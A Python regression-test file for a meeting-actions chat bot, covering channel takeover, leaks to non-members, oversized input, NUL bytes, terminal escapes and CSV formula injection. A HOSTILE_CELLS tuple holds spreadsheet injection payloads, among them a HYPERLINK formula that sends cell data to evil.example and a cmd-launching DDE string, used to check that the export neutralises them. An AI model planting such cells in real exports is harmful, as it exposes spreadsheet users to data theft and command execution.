"""Findings of a hostile probe, each kept as a regression test (docs/reliability.md).

Every test drives the real core (or the CLI) and checks what was stored, not only the answer.
"""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

from conftest import Chat
from sqlalchemy import select, update

from bot.app import App
from bot.cli import main
from bot.teams.render import table_csv
from handlers import registry
from handlers.context import Request
from handlers.format import spreadsheet_cell
from handlers.reply import Reply, Table
from storage.models import Action, ActionUpdate, AuditEvent, Binding, Decision, Note, Series

AT = datetime(2024, 1, 19, 10, 5, tzinfo=UTC)


def _binding(app: App, channel: str) -> tuple[str, int | None, datetime] | None:
    with app.sessions() as s:
        row = s.execute(
            select(Series.key, Binding.bound_by, Binding.bound_at)
            .join(Series, Series.id == Binding.series_id)
            .where(Binding.channel == channel)
        ).first()
        return (row[0], row[1], row[2]) if row is not None else None


def _actions(app: App) -> list[tuple[str, int, str, str]]:
    with app.sessions() as s:
        return [
            (key, number, title, status)
            for key, number, title, status in s.execute(
                select(Series.key, Action.number, Action.title, Action.status)
                .join(Series, Series.id == Action.series_id)
                .order_by(Action.id)
            )
        ]


def _updates(app: App) -> list[tuple[int, str, str | None]]:
    with app.sessions() as s:
        return [
            (a, k, t)
            for a, k, t in s.execute(select(ActionUpdate.action_id, ActionUpdate.kind, ActionUpdate.text))
        ]


def _audit_count(app: App) -> int:
    with app.sessions() as s:
        return len(s.scalars(select(AuditEvent.id)).all())


def _text(reply: Reply) -> str:
    return reply.plain


# --- 1. channel takeover across series ------------------------------------------------------------------


def test_binding_a_channel_of_another_series_needs_rights_in_that_series(app: App) -> None:
    core = app.core()
    core.handle(Request("shell", "C-EXP", "TR", "bind exploitation", AT))  # TR chairs exploitation
    before = _binding(app, "C-EXP")
    assert before is not None and before[0] == "exploitation"
    audits = _audit_count(app)

    # MT chairs the board but has no rights in exploitation: refused, saying who can.
    said = _text(core.handle(Request("shell", "C-EXP", "MT", "bind board", AT + timedelta(minutes=1))))
    assert "bound to Tackling Exploitation Group" in said and "Nothing changed" in said
    assert "the chair (Tom Rees)" in said
    assert _binding(app, "C-EXP") == before  # the row itself is untouched
    assert _audit_count(app) == audits

    # The next action typed there lands in exploitation's tracker, not the board's.
    core.handle(Request("shell", "C-EXP", "TR", "Action: CG to brief the night-time economy leads", AT))
    assert _actions(app) == [("exploitation", 1, "brief the night-time economy leads", "open")]

    # The business unit (or the series' own chair team) may rebind.
    core.handle(Request("shell", "C-EXP", "RB", "bind board", AT + timedelta(minutes=2)))
    after = _binding(app, "C-EXP")
    assert after is not None and after[0] == "board"


# --- 2. what a non-member learns about a series' actions --------------------------------------------------


def _state(app: App) -> tuple[list[tuple[str, int, str, str]], list[tuple[int, str, str | None]], int]:
    return _actions(app), _updates(app), _audit_count(app)


def test_a_non_member_learns_nothing_of_an_action_outside_their_series(app: App) -> None:
    core = app.core()
    core.handle(Request("shell", "C-EXP", "TR", "bind exploitation", AT))
    for i in range(4):
        core.handle(
            Request("shell", "C-EXP", "TR", f"Action: CG to visit hotel number {i + 1} by Friday", AT)
        )
    before = _state(app)
    assert [n for _, n, _, _ in before[0]] == [1, 2, 3, 4]

    # GP is in the file but not in exploitation; action 1 and 4 exist, 77 was never used.
    for used, unused, number in (
        ("exploitation 1 done", "exploitation 77 done", "1"),
        ("done 4", "done 77", "4"),
        ("action 4", "action 77", "4"),
        ("exploitation 4 update: mine now", "exploitation 77 update: mine now", "4"),
    ):
        said = core.handle(Request("shell", "D-GP", "GP", used, AT, direct=True)).plain
        never = core.handle(Request("shell", "D-GP", "GP", unused, AT, direct=True)).plain
        assert said.replace(number, "N") == never.replace("77", "N"), (said, never)
        assert "no action" in said
        for leak in ("hotel", "Chloe", "CG", "owner"):
            assert leak not in said
    assert _state(app) == before  # nothing changed
    # A door's redrawn reminder card asks the same rule: nothing of it for GP, all of it for a member.
    assert core.action_states("shell", "GP", ["exploitation 1", "exploitation 4"], AT) == []
    assert [a.title for a in core.action_states("shell", "TR", ["exploitation 1"], AT)] == [
        "visit hotel number 1"
    ]

    # An owner outside the series still finds their own action, and a member sees whose it is.
    said = core.handle(Request("shell", "D-CG", "CG", "done 4", AT, direct=True)).plain
    assert "Exploitation 4" in said or "exploitation 4" in said.lower()
    assert _actions(app)[3][3] == "done"


# --- 4. numbers too large to be an action ------------------------------------------------------------------


def test_numbers_too_large_for_the_database_are_no_such_action(app: App) -> None:
    core = app.core()
    core.handle(Request("shell", "C-BOARD", "MT", "bind board", AT))
    core.handle(Request("shell", "C-BOARD", "MT", "Action: HN to write to the schools by Friday", AT))
    before = _state(app)
    for typed in ("999999999999999999999", "2147483648", "9" * 5000, "0"):
        said = core.handle(Request("shell", "C-BOARD", "MT", f"done {typed}", AT)).plain
        assert "There is no action" in said and "went wrong" not in said, said
        assert len(said) < 300  # a 5000-digit number is not repeated back whole
        said = core.handle(Request("shell", "D-HN", "HN", f"done {typed}", AT, direct=True)).plain
        assert "You have no action" in said and "went wrong" not in said, said
        said = core.handle(
            Request("shell", "D-HN", "HN", f"board {typed} update: nearly", AT, direct=True)
        ).plain
        assert "There is no action" in said, said
    assert _state(app) == before
    said = core.handle(Request("shell", "C-BOARD", "MT", "done 2147483647", AT)).plain
    assert "There is no action 2147483647 in" in said


# --- 3. spreadsheet formula injection ----------------------------------------------------------------------

HOSTILE_CELLS = (
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
)


def test_the_csv_export_neutralises_cells_a_spreadsheet_would_run(app: App, database_url: str) -> None:
    core = app.core()
    core.handle(Request("shell", "C-BOARD", "MT", "bind board", AT))
    for i, hostile in enumerate(HOSTILE_CELLS, start=1):
        core.handle(Request("shell", "C-BOARD", "MT", f"Action: HN to phone school {i} by Friday", AT))
        core.handle(
            Request("shell", "C-BOARD", "HN", f"action {i} update: {hostile}", AT + timedelta(minutes=i))
        )
    # Stored as typed: only the export changes how a cell is written.
    assert sorted(t for _, k, t in _updates(app) if k == "update") == sorted(HOSTILE_CELLS)
    out, err = io.StringIO(), io.StringIO()
    code = main(
        ["--database", database_url, "export", "actions", "--series", "board", "--format", "csv"],
        stdout=out,
        stderr=err,
    )
    assert code == 0, err.getvalue()
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert [r["latest_update"] for r in rows] == ["'" + h for h in HOSTILE_CELLS]
    assert all(not r["latest_update"].startswith(("=", "+", "-", "@")) for r in rows)
    assert rows[0]["number"] == "1" and rows[0]["due"][:2] == "20"  # ordinary cells unchanged


def test_every_formula_start_is_neutralised_and_nothing_else() -> None:
    for first in ("=", "+", "-", "@", "\t", "\r"):
        assert spreadsheet_cell(f"{first}1+1") == f"'{first}1+1"
    for plain in ("HN to write", "2024-03-15", "1 = 1", "", "'quoted"):
        assert spreadsheet_cell(plain) == plain
    assert spreadsheet_cell(3) == 3 and spreadsheet_cell(True) is True
    csv_bytes = table_csv(Table(("Text",), (("=1+1",), ("ok",))))
    assert list(csv.reader(io.StringIO(csv_bytes.decode("utf-8-sig")))) == [["Text"], ["'=1+1"], ["ok"]]


def test_a_nul_byte_is_dropped_at_the_door_of_the_core(app: App) -> None:
    core = app.core()
    core.handle(Request("shell", "C-BOARD", "MT", "bind board", AT))
    said = core.handle(
        Request("shell", "C-BOARD", "MT", "Action: HN to ring the\x00 schools by Friday", AT)
    ).plain
    assert "went wrong" not in said, said
    core.handle(Request("shell", "C-BOARD", "HN", "action 1 update: rang\x00 two of them", AT))
    assert _actions(app) == [("board", 1, "ring the schools", "open")]
    assert ("update", "rang two of them") in [(k, t) for _, k, t in _updates(app)]
    said = core.handle(Request("shell", "C\x00-BOARD", "M\x00T", "actions", AT)).plain
    assert "went wrong" not in said, said


# --- 5. unbounded input ----------------------------------------------------------------------------------


def test_a_message_over_the_limit_is_refused_whole_and_nothing_is_stored(app: App) -> None:
    core, router = app.core(), app.router()
    core.handle(Request("shell", "C-BOARD", "MT", "bind board", AT))
    core.handle(Request("shell", "C-BOARD", "MT", "meeting start", AT))
    before = _state(app)
    huge = "Action: HN to " + "write to every school " * 50_000  # about 1 MB
    for door in (core, router):
        for text in (huge, "note: " + "x" * 1_000_000, "y" * 1_000_000):
            reply = door.handle(
                Request(
                    "shell", "C-BOARD", "MT", text, AT, message_id=f"m-{len(text)}", event_id=f"e-{id(door)}"
                )
            )
            said = reply.plain
            assert "the most I read is 40,000" in said and "Nothing was stored" in said, said[:200]
            assert len(said) < 400  # never echoed back
    # What a door asks before handing over overheard chat reads none of it either.
    assert core.may_capture(huge) is False and core.preview_capture("shell", "C-BOARD", huge, AT) is None
    assert core.may_capture(huge[:200]) is True
    assert _state(app) == before
    with app.sessions() as s:
        assert s.scalars(select(Note.id)).all() == []
    # The same delivery, short enough, is not taken for a repeat: nothing of the refused one was kept.
    said = core.handle(
        Request("shell", "C-BOARD", "MT", "note: short enough", AT, event_id=f"e-{id(core)}")
    ).plain
    assert "Noted" in said


def test_titles_updates_and_notes_have_a_maximum_length(app: App) -> None:
    core = app.core()
    core.handle(Request("shell", "C-BOARD", "MT", "bind board", AT))
    core.handle(Request("shell", "C-BOARD", "MT", "meeting start", AT))
    core.handle(Request("shell", "C-BOARD", "MT", "Action: HN to write to the schools by Friday", AT))
    before = _state(app)
    said = core.handle(
        Request("shell", "C-BOARD", "MT", "Action: HN to " + "chase " * 100 + "by Friday", AT)
    ).plain
    assert "An action title can be at most 500 characters" in said and "Nothing was stored" in said
    said = core.handle(Request("shell", "C-BOARD", "HN", "action 1 update: " + "a" * 2_001, AT)).plain
    assert "An update can be at most 2,000 characters and this one is 2,001" in said
    said = core.handle(Request("shell", "C-BOARD", "MT", "note: " + "n" * 4_001, AT)).plain
    assert "A note can be at most 4,000 characters" in said
    said = core.handle(Request("shell", "C-BOARD", "MT", "decision: " + "d" * 4_001, AT)).plain
    assert "A decision can be at most 4,000 characters" in said
    assert _state(app) == before
    with app.sessions() as s:
        assert s.scalars(select(Note.id)).all() == [] and s.scalars(select(Decision.id)).all() == []
    # At the limit, kept whole.
    core.handle(Request("shell", "C-BOARD", "HN", "action 1 update: " + "a" * 2_000, AT))
    assert ("update", "a" * 2_000) in [(k, t) for _, k, t in _updates(app)]


def test_did_you_mean_reads_only_the_start_of_a_long_message() -> None:
    tail = " and then some" * 2_500  # 35,000 characters: under the message limit
    assert [s.name for s in registry.suggest("atendance" + tail)] == [
        s.name for s in registry.suggest("atendance")
    ]
    assert registry.suggest("atendance" + tail)  # still a suggestion for its first word
    assert registry.suggest("z" * 39_000) == []


# --- 6. terminal escapes ---------------------------------------------------------------------------------


def test_escape_sequences_are_neither_stored_nor_printed(app: App, database_url: str) -> None:
    chat = Chat(app)
    chat.say("MT", "bind board")
    chat.say("MT", "Action: HN to \x1b[31mwrite\x1b[0m to the schools by Friday\x07")
    shown = chat.say("HN", "action 1 update: \x1b[31mred\x1b[0m\x1b]0;owned\x07 and\x9b2J done\ttoday")
    assert _actions(app) == [("board", 1, "write to the schools", "open")]
    assert ("update", "red and2J done\ttoday") in [(k, t) for _, k, t in _updates(app)]
    shown += chat.say("HN", "action 1")
    assert "red and2J done" in shown
    with app.sessions() as s:
        s.execute(  # text stored before this rule, or by an import: still never printed
            update(ActionUpdate).values(text="old \x1b[2Jtext\x07")
        )
        s.commit()
    shown += chat.say("HN", "action 1")
    assert "old text" in shown
    out, err = io.StringIO(), io.StringIO()
    assert (
        main(["--database", database_url, "export", "actions", "--series", "board"], stdout=out, stderr=err)
        == 0
    )
    out2 = io.StringIO()
    assert main(["--database", database_url, "audit", "--series", "board"], stdout=out2, stderr=err) == 0
    for printed in (shown, out.getvalue(), out2.getvalue()):
        assert not any(c in printed for c in "\x1b\x07\x00\x9b"), repr(printed)
    assert "old text" in out.getvalue()
